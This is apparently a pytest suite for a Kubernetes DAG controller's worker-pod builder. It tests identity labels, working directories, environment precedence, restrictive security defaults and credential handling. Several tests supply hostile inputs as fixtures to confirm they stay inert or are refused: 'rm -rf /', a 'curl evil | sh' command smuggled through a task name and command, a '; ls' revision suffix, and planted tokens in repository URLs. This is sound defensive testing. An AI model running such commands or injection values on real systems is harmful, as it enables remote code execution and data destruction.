"""The worker pod: identity, the task container, security, and what a DAG cannot reach."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from controller.base.naming import is_label_value
from controller.base.tries import TryKey
from controller.executor.gitcheckout import CHECKOUT_SCRIPT
from controller.executor.podspec import (
    PodConfig,
    PodIdentity,
    RenderedCommand,
    build_pod,
)
from controller.spec.model import Task
from tests.executor.kube_names import is_dns_label

SHA = "0123456789abcdef0123456789abcdef01234567"
CONFIG = PodConfig(repo_url="https://git.example.com/data/dags.git", dags_path="sample-dags")


def identity(**changes: Any) -> PodIdentity:
    fields: dict[str, Any] = {
        "dag": "daily-sales",
        "run_id": 42,
        "task": "extract",
        "item_index": 0,
        "try_number": 1,
        "revision": SHA,
        "controller": "kubedag-0",
    }
    fields.update(changes)
    key = TryKey(*(fields.pop(name) for name in ("run_id", "task", "item_index", "try_number")))
    return PodIdentity(key=key, **fields)


def pod_for(
    task: Task,
    *,
    config: PodConfig = CONFIG,
    rendered: RenderedCommand | None = None,
    who: PodIdentity | None = None,
) -> dict[str, Any]:
    return build_pod(
        task=task,
        identity=who or identity(task=task.name),
        rendered=rendered or RenderedCommand(command=task.command, args=task.args, env=task.env),
        config=config,
    )


def container(pod: dict[str, Any], name: str) -> dict[str, Any]:
    everything = pod["spec"].get("initContainers", []) + pod["spec"]["containers"]
    return next(c for c in everything if c["name"] == name)


def env_of(pod: dict[str, Any], name: str) -> dict[str, Any]:
    return {e["name"]: e.get("value", e.get("valueFrom")) for e in container(pod, name)["env"]}


TASK = Task(name="extract", image="python:3.12-slim", command=("python", "jobs/extract.py"))


def test_the_pod_carries_kubedags_identity_labels_and_full_names() -> None:
    pod = pod_for(TASK)
    labels = pod["metadata"]["labels"]
    assert labels["kubedag.io/managed-by"] == "kubedag"
    assert labels["kubedag.io/dag"] == "daily-sales"
    assert labels["kubedag.io/run-id"] == "42"
    assert labels["kubedag.io/task"] == "extract"
    assert labels["kubedag.io/item"] == "0"
    assert labels["kubedag.io/try"] == "1"
    assert labels["kubedag.io/controller"] == "kubedag-0"
    assert pod["metadata"]["annotations"]["kubedag.io/revision"] == SHA
    assert pod["metadata"]["namespace"] == "default"
    assert pod["metadata"]["finalizers"] == ["kubedag.io/result"]


def test_the_same_try_always_gives_the_same_pod() -> None:
    assert pod_for(TASK) == pod_for(TASK)
    assert (
        pod_for(TASK)["metadata"]["name"]
        != pod_for(TASK, who=identity(try_number=2))["metadata"]["name"]
    )


def test_the_task_runs_once_in_the_dag_folder_of_the_checkout() -> None:
    pod = pod_for(Task(name="t", image="busybox", timeout_seconds=600))
    spec = pod["spec"]
    task = container(pod, "task")
    assert spec["restartPolicy"] == "Never"
    assert spec["activeDeadlineSeconds"] == 600
    assert task["workingDir"] == "/workspace/repo/sample-dags"
    assert task["terminationMessagePath"] == "/dev/termination-log"
    assert task["terminationMessagePolicy"] == "FallbackToLogsOnError"
    assert {"name": "workspace", "mountPath": "/workspace"} in task["volumeMounts"]
    assert {"name": "workspace", "emptyDir": {}} in spec["volumes"]
    assert "command" not in task, "no command means the image's entrypoint"


def test_no_timeout_means_no_deadline() -> None:
    assert "activeDeadlineSeconds" not in pod_for(TASK)["spec"]


@pytest.mark.parametrize(
    ("working_dir", "expected"),
    [
        ("jobs", "/workspace/repo/sample-dags/jobs"),
        ("..", "/workspace/repo"),
        ("/app", "/app"),
    ],
)
def test_a_relative_working_dir_is_taken_from_the_dag_folder(
    working_dir: str, expected: str
) -> None:
    pod = pod_for(Task(name="t", image="busybox", working_dir=working_dir))
    assert container(pod, "task")["workingDir"] == expected


def test_the_dag_files_folder_is_the_default_working_dir() -> None:
    who = identity(task="t", dag_file="teams/sales/daily.yaml")
    pod = pod_for(Task(name="t", image="busybox"), who=who)
    assert container(pod, "task")["workingDir"] == "/workspace/repo/teams/sales"
    pod = pod_for(Task(name="t", image="busybox", working_dir="jobs"), who=who)
    assert container(pod, "task")["workingDir"] == "/workspace/repo/teams/sales/jobs"


def test_a_dag_file_at_the_repository_root_works_in_the_root() -> None:
    pod = pod_for(Task(name="t", image="busybox"), who=identity(task="t", dag_file="daily.yaml"))
    assert container(pod, "task")["workingDir"] == "/workspace/repo"


def test_a_working_dir_leaving_the_checkout_is_refused() -> None:
    with pytest.raises(ValueError, match="outside the checkout"):
        pod_for(Task(name="t", image="busybox", working_dir="../../etc"))


def test_kubedags_env_comes_first_and_cannot_be_overridden() -> None:
    rendered = RenderedCommand(
        env=({"name": "STAGE", "value": "prod"}, {"name": "KUBEDAG_RUN_ID", "value": "999"})
    )
    pod = pod_for(TASK, rendered=rendered, who=identity(item_index=3, try_number=2))
    names = [e["name"] for e in container(pod, "task")["env"]]
    assert names == [
        "KUBEDAG_DAG",
        "KUBEDAG_RUN_ID",
        "KUBEDAG_TASK",
        "KUBEDAG_ITEM_INDEX",
        "KUBEDAG_TRY",
        "KUBEDAG_REVISION",
        "KUBEDAG_RESULT_PATH",
        "STAGE",
    ]
    env = env_of(pod, "task")
    assert env["KUBEDAG_RUN_ID"] == "42"
    assert env["KUBEDAG_ITEM_INDEX"] == "3"
    assert env["KUBEDAG_TRY"] == "2"
    assert env["KUBEDAG_REVISION"] == SHA
    assert env["KUBEDAG_RESULT_PATH"] == "/dev/termination-log"


def test_env_from_and_resources_reach_the_task_container() -> None:
    task = Task(
        name="load",
        image="busybox",
        env_from=({"secretRef": {"name": "warehouse-creds"}},),
        resources={"requests": {"cpu": "100m"}, "limits": {"memory": "512Mi"}},
    )
    task_container = container(pod_for(task), "task")
    assert task_container["envFrom"] == [{"secretRef": {"name": "warehouse-creds"}}]
    assert task_container["resources"] == {
        "requests": {"cpu": "100m"},
        "limits": {"memory": "512Mi"},
    }


def test_security_defaults_are_restrictive() -> None:
    pod = pod_for(TASK)
    assert pod["spec"]["securityContext"] == {
        "runAsNonRoot": True,
        "runAsUser": 65532,
        "runAsGroup": 65532,
        "fsGroup": 65532,
        "seccompProfile": {"type": "RuntimeDefault"},
    }
    for name in ("git-checkout", "task"):
        assert container(pod, name)["securityContext"] == {
            "allowPrivilegeEscalation": False,
            "capabilities": {"drop": ["ALL"]},
        }


def test_security_defaults_can_be_switched_off() -> None:
    config = PodConfig(repo_url=CONFIG.repo_url, security_defaults=False)
    pod = pod_for(TASK, config=config)
    assert "securityContext" not in pod["spec"]
    assert all("securityContext" not in c for c in pod["spec"]["containers"])


def test_a_shell_metacharacter_command_stays_one_argv_element() -> None:
    hostile = "; rm -rf / #"
    task = Task(name="t", image="busybox", command=("echo", hostile), args=("$(whoami)",))
    pod = pod_for(task)
    assert container(pod, "task")["command"] == ["echo", hostile]
    assert container(pod, "task")["args"] == ["$(whoami)"]
    assert hostile not in json.dumps(container(pod, "git-checkout"))


def test_the_checkout_container_contains_nothing_from_the_dag() -> None:
    benign = pod_for(TASK)
    hostile = Task(
        name="x'; curl evil | sh; '",
        image="evil",
        command=("sh", "-c", "$(curl evil)"),
        env=({"name": "GIT_DIR", "value": "/etc"},),
        working_dir="jobs",
        timeout_seconds=5,
    )
    other = pod_for(hostile, who=identity(dag="other-dag", task=hostile.name))
    assert container(other, "git-checkout") == container(benign, "git-checkout")
    assert container(other, "git-checkout")["command"] == ["sh", "-c", CHECKOUT_SCRIPT]


def test_the_checkout_fetches_exactly_the_runs_revision() -> None:
    env = env_of(pod_for(TASK), "git-checkout")
    assert env["KUBEDAG_REVISION"] == SHA
    assert env["KUBEDAG_REPO_URL"] == CONFIG.repo_url
    assert env["KUBEDAG_CHECKOUT_DIR"] == "/workspace/repo"


@pytest.mark.parametrize("revision", ["main", "0123456", SHA.upper(), SHA + "; ls"])
def test_a_revision_that_is_not_a_full_sha_is_refused(revision: str) -> None:
    with pytest.raises(ValueError, match="full lowercase commit SHA"):
        pod_for(TASK, who=identity(revision=revision))


def test_git_credentials_are_only_a_reference_to_their_secret() -> None:
    config = PodConfig(repo_url=CONFIG.repo_url, git_secret_name="git-creds", git_secret_key="pat")
    env = env_of(pod_for(TASK, config=config), "git-checkout")
    assert env["KUBEDAG_GIT_PASSWORD"] == {"secretKeyRef": {"name": "git-creds", "key": "pat"}}
    assert "KUBEDAG_GIT_PASSWORD" not in env_of(pod_for(TASK, config=config), "task")


@pytest.mark.parametrize(
    "url",
    [
        "https://x-access-token:ghp_plantedtoken123@github.com/org/dags.git",
        "https://ghp_plantedtoken123@github.com/org/dags.git",
        "ssh://git:ghp_plantedtoken123@github.com/org/dags.git",
    ],
)
def test_a_token_planted_in_the_repository_url_never_reaches_a_pod(url: str) -> None:
    with pytest.raises(ValueError, match="must not contain credentials") as refused:
        PodConfig(repo_url=url)
    assert "ghp_plantedtoken123" not in str(refused.value)


def test_an_ssh_user_without_password_is_a_plain_url() -> None:
    assert PodConfig(repo_url="ssh://git@github.com/org/dags.git").repo_url.startswith("ssh://")


def test_names_at_the_length_limits_give_valid_pods() -> None:
    dag, task_name = "d" * 63, "t" * 63
    who = identity(
        dag=dag,
        task=task_name,
        run_id=2**63 - 1,
        item_index=10**6,
        try_number=99,
        controller="kubedag-controller-" + "c" * 60,
    )
    pod = pod_for(Task(name=task_name, image="busybox"), who=who)
    assert is_dns_label(pod["metadata"]["name"])
    assert all(is_label_value(value) for value in pod["metadata"]["labels"].values())
    assert pod["metadata"]["annotations"]["kubedag.io/controller"] == who.controller
    assert pod["metadata"]["annotations"]["kubedag.io/task"] == task_name


dns_labels = st.from_regex(r"[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?", fullmatch=True)
big = st.integers(min_value=0, max_value=10**30)


@given(
    dag=dns_labels,
    task_name=dns_labels,
    run_id=big,
    item_index=big,
    try_number=big,
    controller=st.text(min_size=1, max_size=100),
)
@settings(max_examples=300)
def test_any_identity_gives_a_pod_with_valid_names_and_full_annotations(
    dag: str, task_name: str, run_id: int, item_index: int, try_number: int, controller: str
) -> None:
    who = identity(
        dag=dag,
        task=task_name,
        run_id=run_id,
        item_index=item_index,
        try_number=try_number,
        controller=controller,
    )
    pod = pod_for(Task(name=task_name, image="busybox"), who=who)
    assert is_dns_label(pod["metadata"]["name"])
    assert all(is_label_value(value) for value in pod["metadata"]["labels"].values())
    annotations = pod["metadata"]["annotations"]
    assert annotations["kubedag.io/dag"] == dag
    assert annotations["kubedag.io/task"] == task_name
    assert annotations["kubedag.io/run-id"] == str(run_id)
    assert annotations["kubedag.io/controller"] == controller


def test_a_pod_that_asks_for_no_identity_gets_no_api_token() -> None:
    assert pod_for(Task(name="extract", image="x"))["spec"]["automountServiceAccountToken"] is False


@pytest.mark.parametrize(
    ("config", "overrides"),
    [
        (replace(CONFIG, service_account_name="kubedag-worker"), {}),
        (CONFIG, {"serviceAccountName": "loader"}),
        (replace(CONFIG, pod_template={"spec": {"serviceAccountName": "from-template"}}), {}),
        (replace(CONFIG, pod_template={"spec": {"automountServiceAccountToken": True}}), {}),
    ],
    ids=["config", "podOverrides", "template-account", "template-automount"],
)
def test_a_pod_that_names_an_identity_keeps_what_its_account_or_template_says(
    config: PodConfig, overrides: dict[str, Any]
) -> None:
    spec = pod_for(Task(name="extract", image="x", pod_overrides=overrides), config=config)["spec"]
    assert spec.get("automountServiceAccountToken") in (None, True)
    if "automountServiceAccountToken" in (config.pod_template or {}).get("spec", {}):
        assert spec["automountServiceAccountToken"] is True


def test_a_task_without_checkout_gets_no_init_container_volume_or_working_dir() -> None:
    pod = pod_for(Task(name="notify", image="x", command=("notify",), checkout=False))
    spec = pod["spec"]
    assert "initContainers" not in spec
    assert "volumes" not in spec
    task_container = container(pod, "task")
    assert "volumeMounts" not in task_container
    assert "workingDir" not in task_container
    assert env_of(pod, "task")["KUBEDAG_REVISION"] == SHA


def test_a_task_without_checkout_keeps_the_template_init_containers_and_volumes() -> None:
    template = {
        "spec": {
            "initContainers": [{"name": "warm-cache", "image": "busybox"}],
            "volumes": [{"name": "cache", "emptyDir": {}}],
        }
    }
    pod = pod_for(
        Task(name="notify", image="x", checkout=False),
        config=replace(CONFIG, pod_template=template),
    )
    assert [c["name"] for c in pod["spec"]["initContainers"]] == ["warm-cache"]
    assert [v["name"] for v in pod["spec"]["volumes"]] == ["cache"]


def test_a_task_without_checkout_keeps_an_absolute_working_dir_and_refuses_a_relative_one() -> None:
    absolute = pod_for(Task(name="a", image="x", working_dir="/app", checkout=False))
    assert container(absolute, "task")["workingDir"] == "/app"
    with pytest.raises(ValueError, match="workingDir 'jobs' is relative"):
        pod_for(Task(name="a", image="x", working_dir="jobs", checkout=False))
